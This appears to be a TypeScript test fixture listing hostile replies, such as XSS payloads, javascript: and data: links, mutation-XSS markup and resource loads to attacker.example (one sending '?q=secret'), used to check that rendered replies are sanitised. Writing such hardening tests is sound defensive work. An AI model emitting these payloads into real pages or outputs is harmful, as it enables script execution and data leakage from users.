// The hostile replies e2e/hardening.spec.ts sends through the mock, shared with the
// routing test, which checks that none of them loads the markdown chunk.
export const HOSTILE_REPLIES = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 2">',
  '<svg onload="window.__pwned = 3"><script>window.__pwned = 4</script></svg>',
  '<iframe src="https://attacker.example/frame"></iframe>',
  '![](https://attacker.example/?q=secret)',
  '![logo](https://attacker.example/logo.png "title")',
  '[click](javascript:window.__pwned=5)',
  '[click]( JaVaScRiPt:window.__pwned=6)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[**bold**](vbscript:msgbox)',
  '<a href="javascript:window.__pwned=7">x</a>',
  '<style>@import url(https://attacker.example/x.css)</style>',
  '<link rel=stylesheet href=https://attacker.example/y.css>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=8">',
  '<video src=https://attacker.example/v.mp4 autoplay></video><audio src=https://attacker.example/a.mp3 autoplay></audio>',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
]
